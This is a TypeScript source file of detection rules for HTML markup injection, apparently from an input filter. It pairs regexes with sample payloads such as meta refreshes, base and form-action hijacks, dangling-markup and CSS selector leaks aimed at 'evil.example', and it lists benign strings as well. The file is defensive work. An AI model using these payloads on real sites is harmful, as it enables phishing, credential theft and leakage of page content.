/**
 * The HTML family: markup injection that does not need script. Reflected into a page, it can
 * redirect (`<meta http-equiv=refresh>`), rebase every relative URL (`<base href>`), post a form to
 * the attacker (`<form action>`, `formaction=`), frame or embed foreign content, restyle the page,
 * or leak the rest of the page through an attribute that is never closed (dangling markup).
 * Script execution (`<script>`, `on*=` handlers, `javascript:`) is the XSS family's business.
 *
 * Editors that post rich text (`<p>`, `<b>`, `<a href>`) pass Basic and Standard; Strict refuses
 * any common element.
 */
import type { ValueRule } from "../types.ts";

/** Whitespace HTML allows between a tag's name and its attributes, and between attributes (also `/`). */
const GAP = String.raw`[ \t\r\n/]`;
/** The end of a tag name: whitespace, `/`, `>` or the end of the value (`<iframe` alone is enough). */
const NAME_END = String.raw`(?:[ \t\r\n/>]|$)`;
const WS = String.raw`[ \t\r\n]*`;
/** The ordinary markup of rich-text editors; no HTML rule below Strict may catch it. */
const RICH_TEXT = [
  "<p>Hello <b>world</b></p>",
  '<a href="https://example.com/docs">docs</a>',
  "<ul><li>one</li><li>two</li></ul>",
  '<img src="/media/cat.png" alt="cat">',
  "<h2>Title</h2><em>note</em>",
];

export const HTML_RULES: readonly ValueRule[] = [
  // ---------------------------------------------------------------------------------------- Basic
  {
    key: "HTML_META_REFRESH",
    family: "HTML",
    level: "Basic",
    regex: `<meta${GAP}[^>]*http-equiv${WS}=${WS}['"]?${WS}(?:refresh|set-cookie|content-security-policy)`,
    description: "A <meta http-equiv> that redirects, sets a cookie or replaces the page's CSP",
    examples: [
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      "<META HTTP-EQUIV=Set-Cookie CONTENT=session=attacker>",
      "<meta/http-equiv='refresh'/content='1'>",
    ],
    benign: ['<meta charset="utf-8">', "meta http-equiv refresh explained", ...RICH_TEXT],
  },
  {
    key: "HTML_BASE_HREF",
    family: "HTML",
    level: "Basic",
    regex: `<base${GAP}[^>]*(?:href|target)${WS}=`,
    description: "A <base href> that makes every relative URL of the page load from the attacker",
    examples: ['<base href="https://evil.example/">', "<BASE/HREF=//evil.example>", "<base target='x"],
    benign: ["database href=", "<based on>", ...RICH_TEXT],
  },
  {
    key: "HTML_FORM_ACTION",
    family: "HTML",
    level: "Basic",
    regex: `<form${GAP}[^>]*action${WS}=|[ \\t\\r\\n/'"]formaction${WS}=`,
    description: "A form, or a button's formaction, that posts what the user types to another URL",
    examples: [
      '<form action="https://evil.example/login"><input name=password type=password>',
      '"><button formaction=//evil.example>Log in</button>',
      "<FORM method=post action=//evil.example>",
    ],
    benign: ["the form action is POST", "formaction is an attribute", ...RICH_TEXT],
  },
  {
    key: "HTML_STYLE_EXECUTION",
    family: "HTML",
    level: "Basic",
    regex: `-moz-binding${WS}:|behavior${WS}:${WS}url${WS}\\(|:${WS}expression\\(`,
    description: "CSS that binds behaviour or evaluates (expression(), -moz-binding, behavior:url())",
    examples: [
      '<div style="width:expression(alert(1))">',
      "body{-moz-binding:url(//evil.example/x.xml#x)}",
      "a{behavior:url(#default#time2)}",
    ],
    benign: ["a regular expression (regex)", "Expression: a+b", "behavior: polite", ...RICH_TEXT],
  },
  // ------------------------------------------------------------------------------------- Standard
  {
    key: "HTML_FRAME_TAG",
    family: "HTML",
    level: "Standard",
    regex: `<(?:iframe|frame|frameset|portal)${NAME_END}`,
    description: "A frame that shows another page inside this one (<iframe>, <frame>, <portal>)",
    examples: ['<iframe src="https://evil.example/login">', "<frameset><frame src=//x>", "<IFRAME/srcdoc=x>"],
    benign: ["iframe embedding guide", "<iframes>", ...RICH_TEXT],
  },
  {
    key: "HTML_EMBED_TAG",
    family: "HTML",
    level: "Standard",
    regex: `<(?:object|embed|applet)${NAME_END}`,
    description: "An <object>, <embed> or <applet> that loads a plug-in or foreign document",
    examples: ['<object data="//evil.example/x.swf">', "<embed src=//evil.example/x>", "<applet code=X>"],
    benign: ["object embed applet", "<objects>", ...RICH_TEXT],
  },
  {
    key: "HTML_LINK_TAG",
    family: "HTML",
    level: "Standard",
    regex: `<link${NAME_END}`,
    description: "A <link> that loads a stylesheet, import or prefetch from elsewhere",
    examples: ['<link rel="stylesheet" href="//evil.example/x.css">', "<LINK/rel=import href=//x>", "<link>"],
    benign: ["<linkedin>", "link rel=stylesheet", ...RICH_TEXT],
  },
  {
    key: "HTML_META_TAG",
    family: "HTML",
    level: "Standard",
    regex: `<meta${NAME_END}`,
    description: "Any <meta> element (referrer policy, viewport, charset and refresh all change the page)",
    examples: ['<meta name="referrer" content="unsafe-url">', "<meta charset=utf-7>", "<META>"],
    benign: ["<metadata>", "meta tags", ...RICH_TEXT],
  },
  {
    key: "HTML_FORM_TAG",
    family: "HTML",
    level: "Standard",
    regex: `<(?:form|input|button|textarea|select|isindex|keygen)${NAME_END}`,
    description:
      "Form controls (<form>, <input>, <button>, <textarea>), the material of injected login forms",
    examples: ['<input type="password" name="pw">', "<form>", "<textarea>", "<button>Pay</button>"],
    benign: ["<formula>", "input button", "<inputs>", ...RICH_TEXT],
  },
  {
    key: "HTML_STYLE_TAG",
    family: "HTML",
    level: "Standard",
    regex: `<style${NAME_END}|@import${WS}(?:url${WS}\\(|['"])`,
    description: "A <style> element or a CSS @import, which restyle the page or leak attributes",
    examples: [
      '<style>input[value^="a"]{background:url(//evil.example/a)}</style>',
      "@import url(//evil.example/x.css);",
      "<STYLE/>",
    ],
    benign: ["<stylesheet>", "style guide", "@important", ...RICH_TEXT],
  },
  {
    key: "HTML_DANGLING_MARKUP",
    family: "HTML",
    level: "Standard",
    regex: `<[a-z][a-z0-9]*${GAP}[^>]*(?:src|href|action|background|poster|content|formaction|target|data)${WS}=${WS}(?:'[^'>]*|"[^">]*)$`,
    description:
      "A tag whose URL attribute opens a quote that the value never closes (leaks the page that follows)",
    examples: ["<img src='//evil.example/log?", '<a href="https://evil.example/?secret=', "'><base target='"],
    benign: ["<img src='/a.png'>", '<a href="/x">x</a>', "it's an <img src=x> example", ...RICH_TEXT],
  },
  // --------------------------------------------------------------------------------------- Strict
  {
    key: "HTML_ANY_ELEMENT",
    family: "HTML",
    level: "Strict",
    regex: `</?(?:a|abbr|audio|b|big|blink|blockquote|br|center|code|details|dialog|div|em|font|h[1-6]|hr|i|img|li|marquee|math|ol|p|picture|pre|s|small|source|span|strike|strong|sub|summary|sup|svg|table|tbody|td|template|th|tr|tt|u|ul|video)[ \\t\\r\\n/>]`,
    description: "Any common HTML element, opening or closing (also <b>bold</b> in a comment, hence Strict)",
    examples: ["<b>bold</b>", "x <p>", "</div>", '<a href="https://example.com">', "<svg/>"],
    benign: ["a<b", "a < b", "x<p", "<3", "<-- arrow"],
  },
  {
    key: "HTML_COMMENT",
    family: "HTML",
    level: "Strict",
    regex: "<!--|<!\\[cdata\\[",
    description: "An HTML comment or CDATA section, which hides the markup that follows from the page",
    examples: ["<!--", "x<!--[if IE]>", "<![CDATA[x]]>"],
    benign: ["<- back", "<!doctype", "a <! b"],
  },
];
